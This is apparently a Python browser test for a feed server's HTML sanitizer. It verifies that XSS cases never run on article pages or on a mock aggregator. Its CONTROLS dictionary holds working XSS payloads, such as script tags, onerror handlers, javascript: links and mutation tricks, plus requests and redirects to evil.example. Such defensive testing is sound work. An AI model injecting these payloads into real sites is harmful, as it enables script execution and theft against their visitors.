"""Nothing of a hostile article runs in a real browser: neither on its own page, without the page's security policy to
help, nor where another site shows content_html as it is. First the test shows that it would see it."""

import contextlib
import http.server
import json
import pathlib
import re
import sys
import threading
import unittest

sys.path.append(str(pathlib.Path(__file__).resolve().parents[1] / "support"))

import chromium
import daemon

chromium.skip_where_missing()

CASES = daemon.SOURCE_DIR / "tests" / "content" / "xss_cases.txt"
FRAME_HOST = "frames.example"
CONFIGURATION = f'[content]\niframe_hosts = ["{FRAME_HOST}"]\n[feeds]\nlimit = 1000\n'
RIVER = 25  # items on one page of the aggregator

# In every frame, before anything else: what cases call, and what others would.
TRAPS = """
for (const name of ['hook', 'alert', 'confirm', 'prompt', 'print'])
  window[name] = (...words) => executed(`${name}(${words}) in ${location.href}`);
"""

# What a reader does, and more: every handler is called, every link that could run is followed, and the page's own
# markup is written once more into it, as scripts do that show feeds.
PROVOKE = """
(async () => {
  const documents = [document];
  for (const one of documents)
    for (const frame of one.querySelectorAll('iframe, frame, object, embed'))
      try { if (frame.contentDocument) documents.push(frame.contentDocument); } catch { }
  for (const one of documents) {
    if (!one.body) continue;
    const again = one.createElement('div');
    again.innerHTML = one.body.innerHTML;
    one.body.append(again);
  }
  await new Promise(resolve => setTimeout(resolve, 20));
  for (const one of documents)
    for (const element of one.querySelectorAll('*')) {
      for (const attribute of element.attributes)
        if (attribute.name.startsWith('on')) element.dispatchEvent(new Event(attribute.name.slice(2)));
      const address = element.href?.baseVal ?? element.href ?? '';
      if (/^(javascript|vbscript|data|blob):/i.test(address) || element.matches('button, input'))
        element.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
    }
  await new Promise(resolve => setTimeout(resolve, 20));
})()
"""

# Each must be seen where nobody cleans it.
CONTROLS = {
    "script": "<script>hook(1)</script>",
    "broken image": "<img src=x onerror=hook(1)>",
    "handler nobody calls": "<p onpointerenter=hook(1)>x</p>",
    "link": "<a href='java\tscript:hook(1)'>x</a>",
    "link of svg": "<svg><a xlink:href='javascript:hook(1)'><text>x</text></a></svg>",
    "frame": "<iframe srcdoc='<script>hook(1)</script>'></iframe>",
    "frame of an address": "<iframe src='javascript:parent.hook(1)'></iframe>",
    "animation": "<svg><animate onbegin=hook(1) attributeName=x dur=1s></svg>",
    "details": "<details open ontoggle=hook(1)>x</details>",
    "dialog": "<script>window.top.constructor; alert(1)</script>",
    "mutation": "<svg></p><style><a id=\"</style><img src=1 onerror=hook(1)>\">",
    "foreign script": "<script src=https://evil.example/x.js></script>",
    "foreign style": "<link rel=stylesheet href=https://evil.example/x.css>",
    "foreign frame": "<iframe src=https://evil.example/></iframe>",
    "foreign object": "<embed src=https://evil.example/x>",
    "request": "<script>fetch('https://evil.example/')</script>",
    "going away": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
}


def unescaped(line):
    """A line of xss_cases.txt: `\\n`, `\\t`, `\\\\` and `\\uXXXX` stand for what they name."""
    named = {"n": "\n", "t": "\t", "\\": "\\"}
    return re.sub(r"\\(?:u([0-9A-Fa-f]{4})|([nt\\]))",
                  lambda found: chr(int(found[1], 16)) if found[1] else named[found[2]], line)


def article(case, name):
    """A file whose body, title, tag and author are the case."""
    head = {"title": case, "slug": name, "tags": [case[:60]], "author": case[:60], "summary": case}
    return "---\n" + "".join(f"{key}: {json.dumps(value)}\n" for key, value in head.items()) + "---\n" + case + "\n"


class Aggregator(http.server.ThreadingHTTPServer):
    """Another site, which shows what it is given as it is, each item in a document of its own."""

    def __init__(self, items):
        super().__init__(("127.0.0.1", 0), Page)
        self.items = items
        self.url = f"http://127.0.0.1:{self.server_port}/"
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def __exit__(self, *_):
        self.shutdown()
        self.server_close()


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        found = re.fullmatch(r"/(item|river)/(\d+)", self.path)
        self.send_response(200 if found else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        if found:
            first = int(found[2])
            shown = range(first, min(first + RIVER, len(self.server.items)))
            body = "".join(f"<iframe src=/item/{number}></iframe>" for number in shown)
            body = body if found[1] == "river" else self.server.items[first]
            self.wfile.write(f"<!doctype html>\n<title>River</title>\n<main>{body}</main>\n".encode("utf-8", "replace"))

    def log_message(self, *_):
        pass


class Xss(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.cases = [unescaped(line) for line in CASES.read_text(encoding="utf-8").splitlines()]
        files = {f"case-{number}{ending}": article(case, f"case-{number}-{ending[1:]}")
                 for number, case in enumerate(cls.cases) for ending in (".html", ".md")}
        cls.workspace = cls.enterClassContext(daemon.Workspace(files))
        configuration = cls.workspace.home / "feedd.toml"
        configuration.write_text(CONFIGURATION, encoding="utf-8")
        cls.feedd = cls.enterClassContext(cls.workspace.serve(None, "--config", str(configuration)))
        cls.items = json.loads(cls.feedd.get("/feed.json").text)["items"]
        cls.browser = cls.enterClassContext(chromium.Browser(cls.workspace.home))
        cls.browser.call("Runtime.addBinding", name="executed")
        cls.browser.call("Page.addScriptToEvaluateOnNewDocument", source=TRAPS)
        cls.browser.call("Page.setBypassCSP", enabled=True)

    def happened(self, *ours):
        """What ran or was asked for since the last time. `ours`: beginnings of addresses that pages may be from."""
        found = []
        for method, what in self.browser.taken():
            if method == "Runtime.bindingCalled" and what["name"] == "executed":
                found.append(what["payload"])
            elif method in ("Page.javascriptDialogOpening", "Page.windowOpen"):
                found.append(f"{method} {what['url']}")
            elif method == "Network.requestWillBeSent" and not self.is_harmless(what, ours):
                found.append(f"{what['type']} {what['request']['url']}")
        return found

    @staticmethod
    def is_harmless(request, ours):
        kind, url = request["type"], request["request"]["url"]
        if kind in ("Image", "Media", "TextTrack"):
            return url.split(":")[0] in ("http", "https", "data")
        if kind == "Document" and url.startswith(f"https://{FRAME_HOST}/"):
            return True
        return kind in ("Document", "Stylesheet", "Other") and url.startswith(ours)

    def provoke(self, url, *ours):
        """What happens on a page and in its frames."""
        self.browser.open(url)
        self.browser.run(PROVOKE)
        return self.happened(*(ours or (url,)))

    def provoke_hostile(self, url, *ours):
        """The same where the page may do what it likes, and go elsewhere meanwhile: that is among what happens."""
        self.browser.open(url)
        with contextlib.suppress(AssertionError):
            self.browser.run(PROVOKE)
        return self.happened(*(ours or (url,)))

    def test_what_runs_is_seen(self):
        with Aggregator(list(CONTROLS.values())) as site:
            for number, name in enumerate(CONTROLS):
                with self.subTest(name):
                    seen = self.provoke_hostile(f"{site.url}item/{number}", site.url)
                    self.assertNotEqual(seen, [], CONTROLS[name])

    def test_many_cases_run_where_nobody_cleans_them(self):
        with Aggregator(self.cases) as site:
            fired = [number for number in range(len(self.cases))
                     if self.provoke_hostile(f"{site.url}item/{number}")]
        self.assertGreater(len(fired), len(self.cases) // 3)

    def test_every_case_is_published(self):
        self.assertEqual(len(self.items), 2 * len(self.cases))

    def test_nothing_runs_on_an_articles_page(self):
        ours = [self.feedd.url + name for name in ("feedd.css", "favicon.ico")]
        for item in self.items:
            with self.subTest(item["id"]):
                self.assertEqual(self.provoke(item["url"], item["url"], *ours), [], item)

    def test_nothing_runs_on_the_home_page(self):
        self.assertEqual(self.provoke(self.feedd.url), [])

    def test_nothing_runs_where_content_html_is_shown_as_it_is(self):
        with Aggregator([item.get("content_html", "") for item in self.items]) as site:
            for first in range(0, len(self.items), RIVER):
                self.assertEqual(self.provoke(f"{site.url}river/{first}", site.url), [])


if __name__ == "__main__":
    daemon.main()
